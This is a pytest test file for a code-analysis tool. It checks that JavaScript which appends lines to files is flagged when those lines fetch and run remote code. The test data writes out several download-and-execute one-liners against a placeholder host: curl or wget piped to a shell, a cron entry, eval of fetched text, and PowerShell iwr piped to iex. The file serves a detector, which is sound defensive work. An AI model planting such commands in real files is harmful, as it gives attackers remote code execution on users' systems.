"""Lines that fetch something and run it."""

import pytest

from pratique.analysis.languages.javascript.planted import API
from tests.analysis.languages.javascript.reading import facts


def noted(source: str) -> list[tuple[int, bool]]:
    return [(use.scope, use.at_load) for use in facts(source).uses if use.api == API]


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://a.invalid/i | sh",
        "* * * * * wget -qO- https://a.invalid/i | sudo bash",
        'eval "$(curl -s https://a.invalid/rc)"',
        "node -e \"fetch('https://a.invalid/j').then(r => r.text()).then(eval)\"",
        "iwr https://a.invalid/i.ps1 | iex",
        "\\ncurl -s https://a.invalid/i | sh",
    ],
)
def test_it_is_noted_with_its_function(line: str) -> None:
    assert [(2, False)] == noted(
        f"const fs = require('fs');\nexports.f = () => fs.appendFileSync(p, `{line.replace('$', chr(92) + '$')}`);\n"
    )
    assert [(0, True)] == noted(
        f"require('fs').appendFileSync(p, '{line.replace(chr(39), chr(92) + chr(39))}');"
    )


@pytest.mark.parametrize(
    "line",
    [
        "curl -o a https://a.invalid/i",
        'eval "$(tool completion)"',
        "fetch('./a.json').then(show)",
        "cat a | sh",
    ],
)
def test_other_lines_are_not(line: str) -> None:
    assert [] == noted(f"require('fs').appendFileSync(p, {line!r});")
